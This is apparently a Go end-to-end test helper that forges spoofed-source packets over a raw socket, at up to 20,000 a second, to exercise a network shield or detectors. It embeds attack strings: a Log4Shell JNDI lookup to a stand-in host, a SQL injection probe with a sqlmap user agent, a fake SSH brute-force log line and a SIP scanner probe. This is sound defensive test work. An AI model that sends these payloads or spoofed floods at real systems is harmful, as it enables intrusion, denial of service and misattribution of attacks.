package e2e

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"strconv"
	"time"

	"github.com/rogpeppe/go-internal/testscript"
	"golang.org/x/sys/unix"
)

// forger makes packets in the names of others, from one place on the wire. It draws by lot with a fixed seed.
type forger struct {
	lot    *rand.Rand
	claims []netip.Addr
	from   net.HardwareAddr
	to     net.HardwareAddr
}

// At most so many are sent, at about so many a second: enough for every detector, too few to fill a wire.
const (
	forgedMost = 1_000_000
	forgedRate = 20_000
)

// cmdForge: forge NAME COUNT CLAIMED...
// Sends COUNT packets from the host NAME whose sources are the CLAIMED hosts and addresses.
func cmdForge(ts *testscript.TestScript, neg bool, args []string) {
	s := of(ts)
	if neg || len(args) < 3 || s.hosts[args[0]] == "" {
		ts.Fatalf("usage: forge NAME COUNT CLAIMED...")
	}
	count, err := strconv.Atoi(args[1])
	if err != nil || count < 1 || count > forgedMost {
		ts.Fatalf("%q is not a number from 1 to %d", args[1], forgedMost)
	}
	f := &forger{lot: rand.New(rand.NewPCG(10, 20))}
	for _, name := range args[2:] {
		if a := s.hosts[name]; a != "" {
			name = a
		}
		a, err := netip.ParseAddr(name)
		ts.Check(err)
		f.claims = append(f.claims, a)
	}
	next, dev := "shield", "out0"
	if s.mode == "bridged" {
		next, dev = "servers", "eth0"
	}
	f.to, err = s.hardware(next, dev)
	ts.Check(err)
	f.from, err = s.hardware(args[0], "eth0")
	ts.Check(err)
	began := time.Now()
	ts.Check(s.within(args[0], func() error { return f.send(count) }))
	ts.Logf("%d forged packets in %.1f s", count, time.Since(began).Seconds())
}

func (s *story) hardware(host, dev string) (mac net.HardwareAddr, err error) {
	err = s.within(host, func() error {
		i, err := net.InterfaceByName(dev)
		if err == nil {
			mac = i.HardwareAddr
		}
		return err
	})
	return mac, err
}

// send puts count frames on the wire of the namespace it is called in.
func (f *forger) send(count int) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	dev, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	to := &unix.SockaddrLinklayer{Ifindex: dev.Index}
	began := time.Now()
	for n := range count {
		if ahead := time.Duration(n)*time.Second/forgedRate - time.Since(began); ahead > time.Millisecond {
			time.Sleep(ahead)
		}
		for err = unix.Sendto(fd, f.frame(n), 0, to); errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EINTR); err = unix.Sendto(fd, f.frame(n), 0, to) {
			time.Sleep(time.Millisecond)
		}
		if err != nil {
			return fmt.Errorf("sending a forged frame: %w", err)
		}
	}
	return nil
}

// What forged packets say: attacks, and words that a careless reader takes for the name of an attacker.
var forgedWords = []string{
	"GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: shop\r\nX-Forwarded-For: %s\r\n\r\n",
	"GET /item?id=1%%20UNION%%20SELECT%%201,2,3 HTTP/1.1\r\nHost: %s\r\nUser-Agent: sqlmap/1.7\r\n\r\n",
	"<34>Nov 27 03:00:00 gate sshd[7]: Failed password for root from %s port 4242 ssh2",
	"OPTIONS sip:100@%s SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n",
}

// frame is the n-th packet: SYN, UDP with an attack's words, DNS questions and answers, and TCP out of nowhere.
func (f *forger) frame(n int) []byte {
	claim := f.claims[n%len(f.claims)]
	words := fmt.Sprintf(forgedWords[f.lot.IntN(len(forgedWords))], claim)
	port := uint16(1024 + f.lot.IntN(60000))
	switch f.lot.IntN(5) {
	case 0:
		return f.ip(claim, addressOf["web"], unix.IPPROTO_TCP, tcp(port, 80, f.lot.Uint32(), 0, 0x02, nil)) // SYN
	case 1:
		return f.ip(claim, addressOf["web"], unix.IPPROTO_TCP, tcp(port, 80, f.lot.Uint32(), f.lot.Uint32(), 0x18, []byte(words))) // PSH, ACK
	case 2:
		return f.ip(claim, addressOf["dns"], unix.IPPROTO_UDP, udp(port, 53, question(f.lot, claim)))
	case 3:
		return f.ip(claim, addressOf["ssh"], unix.IPPROTO_UDP, udp(53, port, question(f.lot, claim))) // an answer nobody asked for
	}
	return f.ip(claim, insideNet+strconv.Itoa(f.lot.IntN(254)+1), unix.IPPROTO_UDP, udp(port, uint16(f.lot.IntN(65535)+1), []byte(words)))
}

// question asks a name server for a name that is an address.
func question(lot *rand.Rand, claim netip.Addr) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(lot.Uint32()))
	b = append(b, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
	for _, label := range []string{"attacker-is", fmt.Sprintf("%x", lot.Uint64()), claim.String(), "example"} {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 16, 0, 1)
}

func udp(from, to uint16, payload []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, from)
	b = binary.BigEndian.AppendUint16(b, to)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(payload)))
	return append(append(b, 0, 0), payload...)
}

func tcp(from, to uint16, seq, ack uint32, flags byte, payload []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, from)
	b = binary.BigEndian.AppendUint16(b, to)
	b = binary.BigEndian.AppendUint32(b, seq)
	b = binary.BigEndian.AppendUint32(b, ack)
	return append(append(b, 5<<4, flags, 0xff, 0xff, 0, 0, 0, 0), payload...)
}

// ip wraps a segment or datagram, fills in its checksum and makes a frame of it.
func (f *forger) ip(from netip.Addr, to string, proto byte, l4 []byte) []byte {
	b := append(append(append([]byte(nil), f.to...), f.from...), 0x08, 0)
	src, dst := from.As4(), netip.MustParseAddr(to).As4()
	h := []byte{0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, proto, 0, 0}
	binary.BigEndian.PutUint16(h[2:], uint16(20+len(l4)))
	h = append(append(h, src[:]...), dst[:]...)
	binary.BigEndian.PutUint16(h[10:], sum(h))
	at := 6
	if proto == unix.IPPROTO_TCP {
		at = 16
	}
	pseudo := append(append(append([]byte(nil), src[:]...), dst[:]...), 0, proto, byte(len(l4)>>8), byte(len(l4)))
	binary.BigEndian.PutUint16(l4[at:], sum(append(pseudo, l4...)))
	return append(append(b, h...), l4...)
}

// sum is the Internet checksum (RFC 1071).
func sum(b []byte) uint16 {
	var n uint32
	for i := 0; i < len(b); i += 2 {
		n += uint32(b[i]) << 8
		if i+1 < len(b) {
			n += uint32(b[i+1])
		}
	}
	for n>>16 != 0 {
		n = n&0xffff + n>>16
	}
	return ^uint16(n)
}
